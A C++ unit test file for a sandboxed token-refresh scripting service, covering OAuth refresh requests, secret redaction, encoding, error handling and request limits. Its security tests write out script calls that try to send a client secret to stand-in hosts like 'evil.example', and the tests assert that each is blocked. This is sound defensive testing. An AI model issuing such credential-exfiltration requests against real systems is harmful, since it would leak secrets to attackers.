#include <gtest/gtest.h>

#include <boost/json.hpp>

#include "services/script/script_services.hpp"
#include "support/script_rig.hpp"

namespace valetkey::services {
namespace {

class OneServer final : public ports::HttpClient {
 public:
  ports::Task<std::expected<ports::HttpResponse, ports::HttpFailure>> send(ports::HttpRequest request) override {
    requests.push_back(request);
    if (failure) co_return std::unexpected(*failure);
    co_return response;
  }
  std::vector<ports::HttpRequest> requests;
  ports::HttpResponse response{.status = 200,
                               .body = R"({"access_token":"a new access token","refresh_token":"the old refresh token","expires_in":60})"};
  std::optional<ports::HttpFailure> failure;
};

class ScriptTokens : public ::testing::Test {
 public:
  ScriptTokens() {
    step.kind = ports::TokenStep::Kind::kRefreshal;
    step.tenant = script.tenant;
    step.client_id = "client";
    step.client_secrets = {model::Secret("the client secret"), model::Secret("an older client secret")};
    step.token_url = "https://auth.example/token";
    step.scopes = {"read"};
    step.parameters = {{"region", "eu"}};
    step.secrets = {{"refresh_token", model::Secret("the old refresh token")}, {"password", model::Secret("pw")}};
  }
  auto run(std::string source) {
    script.source = std::move(source);
    return test::run(rig.context, scripts.token_response(script, step, server));
  }
  std::string told(const std::string& call) {
    const auto done = run("const refresh = (s, { token }) => { try { " + call +
                          "; return { done: 'done' }; } catch (e) { return { done: e.message }; } }");
    return done ? std::string(done->at("done").as_string()) : "failed: " + done.error().error.detail;
  }

  OneServer server;
  test::ScriptRig rig;
  ScriptServices scripts{rig.engine, rig.clock};
  std::vector<std::string> log;
  Script script{.tenant = model::TenantId("ten_a"), .log = &log};
  ports::TokenStep step;
};

constexpr auto kRefresh = R"(
function refresh(step, { token }) {
  const answer = token.fetch({ form: { grant_type: 'refresh_token', client_id: step.clientId, client_secret: '{{secret.client_secret}}',
    refresh_token: '{{secret.refresh_token}}' }, headers: { 'X-Region': step.parameters.region } });
  console.log(answer.status, answer.body);
  const { access_token, refresh_token, expires_in } = answer.json();
  return { access_token, refresh_token, expires_in, token_type: 'Bearer' };
})";

TEST_F(ScriptTokens, a_token_is_refreshed) {
  const auto response = run(kRefresh);
  ASSERT_TRUE(response) << response.error().error.detail;
  EXPECT_EQ(boost::json::serialize(*response),
            R"({"access_token":"a new access token","refresh_token":"the old refresh token","expires_in":60,"token_type":"Bearer"})");
  ASSERT_EQ(server.requests.size(), 1U);
  const auto& request = server.requests[0];
  EXPECT_EQ(request.method, "POST");
  EXPECT_EQ(request.url, "https://auth.example/token");
  EXPECT_EQ(request.body, "grant_type=refresh_token&client_id=client&client_secret=the+client+secret&refresh_token=the+old+refresh+token");
  EXPECT_EQ(request.headers, (ports::Headers{{"X-Region", "eu"}, {"Content-Type", "application/x-www-form-urlencoded"}}));
  EXPECT_EQ(request.tenant, script.tenant);
  EXPECT_LE(request.deadline, step.deadline);
}

TEST_F(ScriptTokens, security_s37_a_script_sees_handles_and_logs_no_tokens) {
  ASSERT_TRUE(run(kRefresh));
  EXPECT_EQ(log, std::vector<std::string>{R"(200 {"access_token":"***","refresh_token":"{{secret.refresh_token}}","expires_in":60})"});
  EXPECT_EQ(told("console.log(JSON.stringify(s)); throw new Error(token.fetch({ body: 'x' }).json().access_token)"), "a new access token")
      << "of its own it may do with a new token as it likes";
  for (const auto* secret : {"the client secret", "the old refresh token", "pw"}) EXPECT_FALSE(log.back().contains(secret)) << log.back();
  server.response.body = R"({"echo":"the client secret"})";
  const auto echoed = run("const refresh = (s, { token }) => ({ access_token: token.fetch({ body: 'x' }).json().echo })");
  ASSERT_TRUE(echoed);
  EXPECT_EQ(echoed->at("access_token"), "{{secret.client_secret}}") << "a handle, which nobody fills in";
  // Even one that it got elsewhere.
  const auto known = run("const refresh = () => ({ access_token: 'the client secret' })");
  ASSERT_FALSE(known);
  EXPECT_EQ(known.error().error.detail, "run function refresh: a secret of this step is in what the script answered");
  const auto thrown = run("const refresh = () => { throw new Error('is it the client secret?'); }");
  EXPECT_EQ(thrown.error().error.detail, "run function refresh: Error: is it ***? (line 1)");
}

TEST_F(ScriptTokens, security_s37_secrets_go_to_the_host_of_the_token_url_alone) {
  constexpr auto kOnly = "requests of this script go to the host of the token URL";
  for (const auto* url :
       {"https://evil.example/token", "http://auth.example/token", "https://auth.example:444/token", "https://auth.example.evil.example/"})
    EXPECT_EQ(told(std::string("token.fetch({ url: '") + url + "', body: '{{secret.client_secret}}' })"), kOnly) << url;
  EXPECT_NE(told("token.fetch({ url: 'https://auth.example@evil.example/' })"), "done");
  EXPECT_NE(told("token.fetch({ url: 'https://auth.example/{{secret.client_secret}}' })"), "done");
  EXPECT_TRUE(server.requests.empty());
  EXPECT_EQ(told("token.fetch({ url: 'https://auth.example/other' })"), "done");
}

TEST_F(ScriptTokens, secrets_are_encoded_for_their_place) {
  step.secrets["refresh_token"] = model::Secret(R"(a "quoted"& token)");
  EXPECT_EQ(told("token.fetch({ query: { t: '{{secret.refresh_token}}' }, json: { t: ['{{secret.refresh_token}}'] } })"), "done");
  EXPECT_EQ(server.requests.at(0).url, "https://auth.example/token?t=a%20%22quoted%22%26%20token");
  EXPECT_EQ(server.requests.at(0).body, R"({"t":["a \"quoted\"& token"]})");
  EXPECT_EQ(told("token.fetch({ basic: { user: s.clientId, password: '{{secret.client_secret}}' } })"), "done");
  EXPECT_EQ(server.requests.at(1).headers, (ports::Headers{{"Authorization", "Basic Y2xpZW50OnRoZSBjbGllbnQgc2VjcmV0"}}));
  EXPECT_EQ(told("token.fetch({ body: '{{secret.code}}' })"), "there is no secret code in this step");
}

TEST_F(ScriptTokens, what_is_known_of_a_step_that_failed) {
  auto failed = run("const refresh = () => { null.x; }");
  ASSERT_FALSE(failed);
  EXPECT_FALSE(failed.error().is_sent);
  failed = run("const refresh = (s, { token }) => { token.fetch({ body: 'x' }); null.x; }");
  ASSERT_FALSE(failed);
  EXPECT_TRUE(failed.error().is_sent);
  failed = run("const refresh = (s, { token }) => { token.fetch({ body: 'x' }); return { error: 'invalid_grant' }; }");
  ASSERT_FALSE(failed);
  EXPECT_EQ(failed.error().oauth_error, "invalid_grant");
  server.failure =
      ports::HttpFailure{.state = ports::SendState::kNotSent, .error = {.code = model::Code::kProviderUnavailable, .detail = "no answer"}};
  failed = run(kRefresh);
  ASSERT_FALSE(failed);
  EXPECT_FALSE(failed.error().is_sent);
  EXPECT_EQ(failed.error().error.code, model::Code::kProviderUnavailable);
  server.failure->state = ports::SendState::kSent;
  failed = run(kRefresh);
  ASSERT_FALSE(failed);
  EXPECT_TRUE(failed.error().is_sent);
}

TEST_F(ScriptTokens, a_few_requests) {
  EXPECT_EQ(told("for (let i = 0; i < 6; ++i) token.fetch({ body: 'x' })"), "the script has made all the requests it may make");
  EXPECT_EQ(server.requests.size(), 5U);
  EXPECT_NE(told("token.fetch({ method: 'DELETE' })"), "done");
  EXPECT_NE(told("token.fetch({ body: 'x', json: {} })"), "done");
}

TEST_F(ScriptTokens, security_s39_answers_are_64_levels_deep) {
  const auto nested = [&](int depth) {
    return run("const refresh = () => { let a = 0; for (let i = 1; i < " + std::to_string(depth) + "; ++i) a = [a]; return { a }; }")
        .has_value();
  };
  EXPECT_TRUE(nested(64));
  EXPECT_FALSE(nested(65));
}

}  // namespace
}  // namespace valetkey::services
